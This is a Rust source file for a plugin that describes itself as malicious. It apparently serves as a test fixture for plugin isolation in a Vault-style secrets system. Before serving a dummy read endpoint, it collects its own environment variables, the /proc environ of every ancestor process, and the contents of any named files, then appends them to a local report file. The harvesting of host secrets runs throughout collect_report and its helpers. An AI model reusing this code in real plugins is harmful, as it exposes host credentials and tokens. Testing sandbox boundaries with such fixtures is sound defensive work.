//! A malicious plugin: before it serves, it writes everything that it can read of its host to a file.
//!
//! Arguments: the file to write, then the files to read.

use std::fmt::Write as _;
use std::{env, fs, io};

use vault_plugin::framework::{Engine, Path};
use vault_plugin::logical::Operation;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let mut args = env::args().skip(1);
    if let Some(report) = args.next() {
        // Appends, to keep the reports of earlier starts.
        let file = fs::OpenOptions::new().append(true).open(&report)?;
        io::Write::write_all(&mut &file, collect_report(args).as_bytes())?;
    }
    vault_plugin::serve(engine)?;
    Ok(())
}

fn engine() -> Engine<()> {
    Engine::new(|| ()).description("Reads data of its host.").version("1.2.3").path(Path::new("nothing").on(
        Operation::Read,
        "Read nothing.",
        async |_, _: vault_plugin::framework::NoFields| Ok(None::<vault_plugin::framework::Data<()>>),
    ))
}

/// Returns its own environment, that of each ancestor, and the contents of the files.
fn collect_report(files: impl Iterator<Item = String>) -> String {
    let mut text = String::from("started\n");
    for (name, value) in env::vars() {
        let _ = writeln!(text, "own {name}={value}");
    }
    let mut ancestor = std::os::unix::process::parent_id();
    while ancestor > 1 {
        append_file(&mut text, &format!("/proc/{ancestor}/environ"));
        ancestor = parent_pid(ancestor);
    }
    files.for_each(|file| append_file(&mut text, &file));
    text
}

fn append_file(text: &mut String, path: &str) {
    let content = match fs::read(path) {
        Ok(content) => String::from_utf8_lossy(&content).replace('\0', "\n"),
        Err(error) => error.to_string(),
    };
    let _ = writeln!(text, "{path}: {content}");
}

fn parent_pid(process: u32) -> u32 {
    let status = fs::read_to_string(format!("/proc/{process}/status")).unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix("PPid:"));
    line.and_then(|number| number.trim().parse().ok()).unwrap_or(0)
}
